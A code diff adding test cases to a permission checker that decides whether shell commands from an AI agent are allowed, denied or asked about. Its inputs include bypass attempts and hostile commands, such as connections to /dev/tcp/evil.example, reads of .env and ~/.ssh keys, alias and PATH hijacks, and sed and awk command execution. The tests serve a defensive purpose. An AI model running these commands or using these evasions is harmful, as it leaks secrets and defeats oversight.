@@ -1,3 +1,4 @@
+import { homedir } from "node:os"
 import fc from "fast-check"
 import { describe, expect, it } from "vitest"
 import { type Attempt, decide, type Policy, ruleFor } from "../../plugins/permission.ts"
@@ -107,6 +108,7 @@ describe("an allow rule lets through nothing more", () => {
     "source ./env; npm test",
     "cd sub && npm test",
     "cd .. && npm test",
+    "cd /elsewhere && npm test",
     "NODE_ENV=production make",
     "NODE_ENV=test PATH=. make",
     "make",
@@ -134,10 +136,14 @@ describe("an allow rule lets through nothing more", () => {
     "git diff --outpu=.bashrc",
     "git -c core.pager=x diff",
     "find . -delete",
+    "npm test | head -n 5 .env",
+    "npm test | tail -5 < .env",
+    "git diff | sort -uo .bashrc",
     "find . -fprintf x y",
     "find . -exec rm {} \\;",
     "find . -exec {} \\;",
     "cat x | xargs rm",
+    "cat x | xargs",
     "cat x | xargs -I{} {} test",
     "cat x | xargs -Inpm npm test",
     // Files written and connections made.
@@ -147,10 +153,13 @@ describe("an allow rule lets through nothing more", () => {
     "cat x &> y",
     "cat <> y",
     "npm test > $X",
+    "<&-rm npm test",
+    ">&-rm npm test",
     "cat < /dev/tcp/evil.example/80",
     "exec 3<>/dev/tcp/evil.example/80; npm test",
     // Power or code from elsewhere.
     "sudo npm test",
+    "timeout $T npm test",
     'bash -c "npm test; rm x"',
     'bash -c "$X"',
     "bash <<< 'rm x'",
@@ -174,6 +183,21 @@ describe("an allow rule lets through nothing more", () => {
     expect(await verdict({ allow }, command)).toBe("ask")
   })
 
+  it("not even with rules for the builtins that change what others mean", async () => {
+    const rules = ["npm test", "export *", "read *", "printf *", "alias *", "source *", "trap *"]
+    for (const first of [
+      "export PATH=.",
+      "read -r PATH < x",
+      "printf -v PATH .",
+      "alias npm=rm",
+      "source x",
+      "trap 'rm x' EXIT"
+    ]) {
+      const allow = rules.map((rule) => `execute_bash(${rule})`)
+      expect(await verdict({ allow }, `${first}; npm test`), first).toBe("ask")
+    }
+  })
+
   it("reads stars as documented", async () => {
     const cases: ReadonlyArray<readonly [string, string, "allow" | "ask"]> = [
       ["npm *", "npm", "allow"],
@@ -185,6 +209,10 @@ describe("an allow rule lets through nothing more", () => {
       ["cat docs/*", "cat docs/a.md", "allow"],
       ["cat docs/*", "cat docs/../.env", "ask"],
       ["cat docs/*", "cat docs/a.md .env", "ask"],
+      ["x --file=*", "x --file=../../a", "ask"],
+      ["sort *", "sort -uo x", "ask"],
+      ["sort *", "sort -u x", "allow"],
+      ["timeout 5 cat", "timeout 5 cat < .env", "ask"],
       ["ls '*'", "ls '*'", "allow"],
       ["ls '*'", "ls a", "ask"],
       ["ls", "ls < a", "ask"],
@@ -195,7 +223,8 @@ describe("an allow rule lets through nothing more", () => {
       ["bash *", "bash -c 'rm x'", "ask"],
       ["bash *", "bash build.sh", "allow"],
       ["timeout 5 bash *", "timeout 5 bash -c 'rm x'", "ask"],
-      ["bash -c 'make *'", "bash -c 'make; rm x'", "ask"],
+      ["bash -c make*", "bash -c 'make; rm x'", "ask"],
+      ["bash -c 'a; b'", "bash -c 'a; b'", "allow"],
       ["node *", "node -e 'f(1)'", "allow"],
       ["=eval $X", "eval $X", "allow"],
       ["=eval $X", "eval $Xy", "ask"],
@@ -269,6 +298,8 @@ describe("a deny rule holds, however the command is written", () => {
     "diff <(rm x) y",
     "cat <<END\n$(rm x)\nEND",
     "x=$(rm y)",
+    "env = rm x",
+    "env x+=1 rm x",
     "git push",
     "git push --force origin main",
     "git -C /x push",
@@ -295,7 +326,13 @@ describe("a deny rule holds, however the command is written", () => {
     "node -e 1",
     "perl -pe 1 x",
     "awk 'BEGIN { system(\"x\") }'",
+    "awk '{ print | \"x\" }'",
+    "sed 's/x/y/e' z",
+    "sed '1e x' z",
+    "env A=$X rm",
     "ssh host 'rm x'",
+    "ssh host 'r\\m x'",
+    "docker exec box sh -c 'r\\m x'",
     "docker run image rm x",
     "parallel rm ::: x",
     "strace -f rm x",
@@ -346,8 +383,8 @@ describe("a deny rule holds, however the command is written", () => {
     "mkdir -p a/b && cd a/b && touch c",
     "FOO=1 npm test > out.txt 2>&1",
     "i=0; while ((i < 3)); do echo $i; i=$((i + 1)); done",
-    "sed -i 's/re/place/' x && sed -n 1,5p x",
-    "awk '{ print $1 }' x",
+    "sed -i -e 's/re/place/' x && sed -n 1,5p x",
+    "awk '$1 > 2 || /x/ { print $1 }' x",
     "curl -s https://example.com | jq ."
   ])("leaves alone what is something else: %j", async (command) => {
     expect(await verdict({ mode: "auto", deny }, command)).toBe("allow")
@@ -373,6 +410,23 @@ describe("a deny rule holds, however the command is written", () => {
     }
   })
 
+  it("of a path for all tools holds for what a command names", async () => {
+    const closed = { mode: "auto", deny: ["*(~/.ssh/**)", "*(.env)"] } as const
+    for (const command of [
+      "cat ~/.ssh/id",
+      `cp ${homedir()}/.ssh/id x`,
+      "sudo cat a/../.env",
+      "cat < .env",
+      "x > .env"
+    ]) {
+      expect(await verdict(closed, command), command).toBe("deny")
+    }
+    expect(await verdict(closed, "cat .envrc ~/.sshd")).toBe("allow")
+    expect(await verdict({ mode: "auto", deny: ["execute_bash(cat ~/.ssh/*)"] }, `cat ${homedir()}/.ssh/id`)).toBe(
+      "deny"
+    )
+  })
+
   it("judges a redirection as a write of the file", async () => {
     const closed = { mode: "auto", deny: ["write_file(.env)", "edit_file(secret/**)"] } as const
     for (const command of [
@@ -383,7 +437,10 @@ describe("a deny rule holds, however the command is written", () => {
     ]) {
       expect(await verdict(closed, command), command).toBe("deny")
     }
-    expect(await verdict(closed, "echo x > $F")).toBe("ask")
+    expect(await verdict({ mode: "auto", deny: ["write_file(~/.bashrc)"] }, "echo x > ~/.bashrc")).toBe("deny")
+    for (const command of ["echo x > $F", "echo x > ~+/.env", "echo x > ~root/.env"]) {
+      expect(await verdict(closed, command), command).toBe("ask")
+    }
     expect(await verdict(closed, "cd a; echo x > ../.env")).toBe("ask")
     expect(await verdict(closed, "echo x > out.txt 2> /dev/null")).toBe("allow")
   })
@@ -461,6 +518,13 @@ describe("whatever the line", () => {
       { numRuns: 500 }
     )
   })
+})
+
+it("a line that nobody can read is asked", async () => {
+  for (const line of [`echo ${"${x:-".repeat(20_000)}`, "(".repeat(20_000), `eval ${"x".repeat(200_000)}; '`]) {
+    expect(await verdict({ allow, ask: deny, mode: "auto" }, line)).toBe("ask")
+    expect(await ruleFor(bash(line))).toBe(`execute_bash(=${line})`)
+  }
 })
 
 describe("'always'", () => {
